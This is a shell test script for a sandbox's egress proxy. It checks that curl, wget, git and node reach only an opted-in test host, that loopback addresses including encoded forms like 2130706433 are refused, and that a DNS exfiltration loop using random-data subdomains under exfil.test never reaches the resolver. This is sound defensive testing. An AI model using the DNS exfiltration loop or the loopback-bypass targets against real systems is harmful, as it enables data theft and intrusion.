#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# curl, wget, git and node through the egress proxy from inside
# `shinken run --net proxy`, in namespaces this test creates (netns.sh).
# The launcher runs in the proxy namespace P, whose resolver configuration
# (bound by `ip netns exec` from /etc/netns/P) points at the test resolver
# on P's loopback: lo.test is loopback, other .test names the test host.
#   clients.sh blocked   what must be refused, and the sandbox's own walls
#   clients.sh allowed   fetching from the opted-in test host; needs a way to
#                        hand `shinken run` a proxy configuration
#                        (--proxy-config FILE) for allow_private_cidrs
# The checks below are shell code run inside the sandbox, written in single
# quotes on purpose: they must expand there, not here.
# shellcheck disable=SC2016
. "$SHINKEN_SRCDIR/tests/lib.sh"
. "$SHINKEN_SRCDIR/tests/egress/netns.sh"
mode=$1
for tool in curl wget git node getent; do
  command -v $tool >/dev/null || skip "no $tool"
done
eg_setup
mkdir -p "$EG_TMP/www" "$EG_TMP/work" "/etc/netns/$EG_P"
echo "nameserver 127.0.0.1" >"/etc/netns/$EG_P/resolv.conf"
printf '127.0.0.1 localhost\n::1 localhost\n' >"/etc/netns/$EG_P/hosts"
# What the test host serves: random bytes, and a repository over git's dumb
# HTTP protocol (static files).
head -c 100000 /dev/urandom >"$EG_TMP/www/data.bin"
git init -q -b main "$EG_TMP/src"
head -c 3000 /dev/urandom | od -An -tx1 >"$EG_TMP/src/file.txt"
git -C "$EG_TMP/src" add file.txt
git -C "$EG_TMP/src" -c user.name=t -c user.email=t@t commit -q -m one
git clone -q --bare "$EG_TMP/src" "$EG_TMP/www/repo.git"
git -C "$EG_TMP/www/repo.git" update-server-info
# The sandbox sees only its work directory: the expected bytes go there.
cp "$EG_TMP/www/data.bin" "$EG_TMP/work/ref.bin"
cp "$EG_TMP/src/file.txt" "$EG_TMP/work/ref.txt"
eg_upstream
# The canary: the same servers on every loopback address of P.
ip netns exec "$EG_P" node "$SHINKEN_SRCDIR/tests/egress/upstream.mjs" \
  "$EG_TMP/canary.log" "$EG_TMP/www" >"$EG_TMP/canary.out" 2>&1 &
export EG_TMP
ip netns exec "$EG_P" node "$SHINKEN_SRCDIR/tests/egress/dns-server.mjs" \
  "$EG_TMP/dns.log" >"$EG_TMP/dns.out" 2>&1 &
i=0
until grep -q ready "$EG_TMP/canary.out" 2>/dev/null && grep -q ready "$EG_TMP/dns.out" 2>/dev/null; do
  i=$((i + 1)); [ $i -lt 100 ] || fail "canary or resolver did not start: $(cat "$EG_TMP"/*.out)"
  sleep 0.1
done

extra=""
if [ "$mode" = allowed ]; then
  cat >"$EG_TMP/proxy.json" <<JSON
{ "allow_private_cidrs": [ "10.77.0.2/32" ] }
JSON
  extra="--proxy-config $EG_TMP/proxy.json"
fi
# As root, shinken run needs --allow-degraded (root's files stay root's
# inside; see docs/sandbox.md), and no layer but that one may be degraded.
allow=""
[ "$(id -u)" = 0 ] && allow=--allow-degraded
# LeakSanitizer cannot stop the threads of a non-dumpable process (stage 2
# makes itself one), so leak checking is off for the sandboxed part only.
sbx() {
  # shellcheck disable=SC2086
  (cd "$EG_TMP/work" && ip netns exec "$EG_P" env ASAN_OPTIONS=detect_leaks=0 \
    "$SHINKEN" run $allow --net proxy --allow-domain '**.test' --write "$EG_TMP/work" $extra -- "$@")
}
sbx true 2>"$EG_TMP/first.err"
if [ "$mode" = allowed ] && grep -q "unknown option" "$EG_TMP/first.err"; then
  fail "shinken run has no --proxy-config: the test host cannot be opted in"
fi
other=$(grep -F 'degraded: ' "$EG_TMP/first.err" | grep -vF 'the caller is root' | head -1)
[ -z "$other" ] || fail "a layer other than the root caller's is degraded here: $other"

passed=0 failed=0
lines() { cat "$1" 2>/dev/null | wc -l; }
# The distinct names under SUFFIX the test resolver has been asked for.
dns_count() { grep -F ".$1 " "$EG_TMP/dns.log" 2>/dev/null | cut -d' ' -f1 | sort -u | wc -l; }
# dns_check NAME BEFORE AFTER MIN MAX: AFTER - BEFORE distinct names reached
# the resolver, between MIN and MAX.
dns_check() {
  d=$(($3 - $2))
  if [ "$d" -ge "$4" ] && [ "$d" -le "$5" ]; then
    passed=$((passed + 1)); echo "ok - $1"
  else
    failed=$((failed + 1)); echo "not ok - $1: $d names reached the resolver"
  fi
}
# check NAME EXPECT-CONTACT CMD...: runs CMD (a shell snippet) in the
# sandbox; it must exit 0. EXPECT-CONTACT is "host" when the test host must
# have been reached, "none" when neither it nor the canary may be.
check() {
  name=$1 want=$2; shift 2
  u0=$(lines "$EG_TMP/upstream.log") c0=$(lines "$EG_TMP/canary.log")
  out=$(sbx sh -c "$1" 2>&1) && rc=0 || rc=$?
  sleep 0.2
  u1=$(lines "$EG_TMP/upstream.log") c1=$(lines "$EG_TMP/canary.log")
  why=""
  [ $rc = 0 ] || why="exit $rc"
  [ "$c1" = "$c0" ] || why="$why; reached the loopback canary"
  case $want in
    host) [ "$u1" -gt "$u0" ] || why="$why; never reached the test host" ;;
    none) [ "$u1" = "$u0" ] || why="$why; reached the test host" ;;
  esac
  if [ -z "$why" ]; then
    passed=$((passed + 1)); echo "ok - $name"
  else
    failed=$((failed + 1)); echo "not ok - $name: $why"; printf '%s\n' "$out" | tail -5 | sed 's/^/#   /'
  fi
}

node_get='const http = require("http");
const [host, path] = [process.argv[1], process.argv[2]];
http.get({ host: "127.0.0.1", port: 3128, path: `http://${host}${path}`, headers: { host } }, (res) => {
  const c = []; res.on("data", (d) => c.push(d));
  res.on("end", () => { process.stdout.write(String(res.statusCode) + " " + (res.headers["x-shinken-decision"] || "-") + "\n");
    if (process.argv[3]) require("fs").writeFileSync(process.argv[3], Buffer.concat(c)); });
}).on("error", (e) => { console.log("error " + e.message); });'
W=$EG_TMP/work
cp "$SHINKEN_SRCDIR/tests/egress/dns-query.js" "$W/dns-query.js"
# A program that resolves first and hands the proxy the address: the
# lookup in the sandbox (getent, on its main thread), then curl told that
# address with --resolve, through SOCKS5 or a CONNECT with the IP.
via_synthetic='via() { ip=$(getent ahostsv4 "$1" | awk "/^198\.1[89]\./ { print \$1; exit }"); test -n "$ip"; }; via'


if [ "$mode" = blocked ]; then
  check "environment names the proxies" none \
    'test "$HTTP_PROXY" = http://127.0.0.1:3128 && test "$http_proxy" = http://127.0.0.1:3128 &&
     test "$HTTPS_PROXY" = http://127.0.0.1:3128 && test "$ALL_PROXY" = socks5h://127.0.0.1:1080'
  for target in http://lo.test/ http://127.0.0.1/ http://[::1]/ http://2130706433/ http://ok.test/; do
    check "curl $target: 403 with a decision" none \
      "code=\$(curl -sS -x http://127.0.0.1:3128 --noproxy '' -o /dev/null -D $W/h -w '%{http_code}' $target); test \"\$code\" = 403 && grep -qi '^x-shinken-decision:' $W/h"
  done
  check "curl through SOCKS5 to lo.test is refused" none \
    '! curl -sS -m 10 -x socks5h://127.0.0.1:1080 -o /dev/null http://lo.test/'
  check "curl CONNECT tunnel to lo.test is refused" none \
    '! curl -sS -m 10 -p -o /dev/null http://lo.test/'
  check "curl to a name outside the allowlist: 403" none \
    "code=\$(curl -sS -o /dev/null -w '%{http_code}' http://other.example/); test \"\$code\" = 403"
  check "wget to lo.test is refused with 403" none \
    "wget -T 10 -t 1 -O /dev/null http://lo.test/ 2>$W/w.err; test \$? = 8 && grep -q ' 403 ' $W/w.err"
  check "git clone from lo.test is refused with 403" none \
    "! git clone -q http://lo.test/repo.git $W/lo-clone 2>$W/g.err && grep -q 403 $W/g.err"
  check "node through the proxy to lo.test: 403" none \
    "node -e '$node_get' lo.test / | grep -q '^403 '"
  # The sandbox's own wall: without the proxy nothing leaves.
  check "curl bypassing the proxy reaches nothing" none \
    '! curl -sS -m 5 --noproxy "*" -o /dev/null http://10.77.0.2/'
  check "node bypassing the proxy reaches nothing" none \
    "node -e 'require(\"net\").connect(80, \"10.77.0.2\").on(\"connect\", () => process.exit(1)).on(\"error\", () => process.exit(0))'"
  for q in "other.example A" "other.example AAAA" "ok.test TXT"; do
    check "DNS stub answers REFUSED for $q" none "node $W/dns-query.js $q | grep -qx 'rcode 5'"
  done
  check "DNS stub over TCP answers REFUSED for other.example A" none \
    "node $W/dns-query.js other.example A tcp | grep -qx 'rcode 5'"
  check "DNS stub refuses a name outside the allowlist" none '! getent ahosts other.example'
  # A name the allowlist admits gets a synthetic address, whatever it
  # resolves to: nothing is looked up to answer. Its connection is decided
  # when it is made, by the name.
  for q in "lo.test A" "ok.test A"; do
    check "DNS stub answers $q with a synthetic address" none \
      "node $W/dns-query.js $q | grep -Eqx 'rcode 0 198\.1[89]\.[0-9]+\.[0-9]+'"
  done
  check "DNS stub answers lo.test AAAA with a synthetic address" none \
    "node $W/dns-query.js lo.test AAAA | grep -q '^rcode 0 fd53:686b:6e00:0000:0000:0000:'"
  check "DNS stub gives a loopback name only synthetic addresses" none \
    'getent ahosts lo.test >'"$W"'/ah.out; test -s '"$W"'/ah.out && ! grep -Ev "^(198\.1[89]\.|fd53:686b:6e00:)" '"$W"'/ah.out'
  check "SOCKS5 to the synthetic address of lo.test is refused" none \
    "$via_synthetic lo.test && ! curl -sS -m 10 --resolve lo.test:80:\$ip -x socks5://127.0.0.1:1080 -o /dev/null http://lo.test/"
  check "SOCKS5 to the synthetic address of a host not opted in is refused" none \
    "$via_synthetic ok.test && ! curl -sS -m 10 --resolve ok.test:80:\$ip -x socks5://127.0.0.1:1080 -o /dev/null http://ok.test/"
  # DNS exfiltration: under a wildcard allowlist, twenty lookups of
  # <data>.exfil.test reach the upstream resolver zero times (its own log,
  # outside the sandbox, is the judge).
  d0=$(dns_count exfil.test)
  check "twenty lookups of <data>.exfil.test are answered" none \
    'for i in $(seq 1 20); do getent ahosts "$(head -c 8 /dev/urandom | od -An -tx1 | tr -d " \n").exfil.test" >/dev/null || exit 1; done'
  d1=$(dns_count exfil.test)
  dns_check "twenty lookups of <data>.exfil.test reach the resolver zero times" "$d0" "$d1" 0 0
else
  check "curl fetches from the test host byte for byte" host \
    "curl -sS -f -o $W/c.bin http://ok.test/data.bin && cmp -s $W/c.bin $W/ref.bin"
  check "curl through a CONNECT tunnel" host \
    "curl -sS -f -p -o $W/p.bin http://ok.test/data.bin && cmp -s $W/p.bin $W/ref.bin"
  check "curl through SOCKS5" host \
    "curl -sS -f -x socks5h://127.0.0.1:1080 -o $W/s.bin http://ok.test/data.bin && cmp -s $W/s.bin $W/ref.bin"
  check "wget fetches byte for byte" host \
    "wget -q -O $W/w.bin http://ok.test/data.bin && cmp -s $W/w.bin $W/ref.bin"
  check "git clones over HTTP" host \
    "git clone -q http://ok.test/repo.git $W/clone && cmp -s $W/clone/file.txt $W/ref.txt"
  check "node fetches through the proxy" host \
    "node -e '$node_get' ok.test /data.bin $W/n.bin | grep -q '^200 ' && cmp -s $W/n.bin $W/ref.bin"
  check "DNS stub answers an allowed name with a synthetic address" none \
    'getent ahosts ok.test | grep -Eq "^198\.1[89]\."'
  check "DNS stub answers A for an allowed name" none \
    "node $W/dns-query.js ok.test A | grep -Eqx 'rcode 0 198\.1[89]\.[0-9]+\.[0-9]+'"
  check "DNS stub answers AAAA for an allowed name" none \
    "node $W/dns-query.js ok.test AAAA | grep -q '^rcode 0 fd53:686b:6e00:0000:0000:0000:'"
  check "DNS stub over TCP answers A for an allowed name" none \
    "node $W/dns-query.js ok.test A tcp | grep -Eqx 'rcode 0 198\.1[89]\.[0-9]+\.[0-9]+'"
  check "SOCKS5 to the synthetic address of ok.test fetches from the test host" host \
    "$via_synthetic ok.test && curl -sS -f --resolve ok.test:80:\$ip -x socks5://127.0.0.1:1080 -o $W/s4.bin http://ok.test/data.bin && cmp -s $W/s4.bin $W/ref.bin"
  check "CONNECT to the synthetic address of ok.test fetches from the test host" host \
    "$via_synthetic ok.test && curl -sS -f -p --resolve ok.test:80:\$ip -o $W/c4.bin http://ok.test/data.bin && cmp -s $W/c4.bin $W/ref.bin"
  check "loopback stays blocked" none \
    "code=\$(curl -sS -o /dev/null -w '%{http_code}' http://lo.test/); test \"\$code\" = 403"
  check "loopback stays blocked through its synthetic address" none \
    "$via_synthetic lo.test && ! curl -sS -m 10 --resolve lo.test:80:\$ip -x socks5://127.0.0.1:1080 -o /dev/null http://lo.test/"
  # The resolver's log is the judge, from outside: lookups alone never
  # reach it, and the connections that are made do (the control, which
  # shows the log sees what leaves).
  d0=$(dns_count names.test)
  check "twenty lookups of <data>.names.test are answered" none \
    'for i in $(seq 1 20); do getent ahosts "n$i-$$.names.test" >/dev/null || exit 1; done'
  d1=$(dns_count names.test)
  dns_check "twenty lookups of <data>.names.test reach the resolver zero times" "$d0" "$d1" 0 0
  check "twenty fetches by name from <data>.names.test reach the test host" host \
    'for i in $(seq 1 20); do curl -sS -f -o /dev/null "http://n$i-$$.names.test/data.bin" || exit 1; done'
  d2=$(dns_count names.test)
  dns_check "control: twenty fetches by name take twenty names to the resolver" "$d1" "$d2" 20 20
fi
echo "egress-clients-$mode: $passed passed, $failed failed"
[ $failed = 0 ] && [ $passed -gt 0 ]
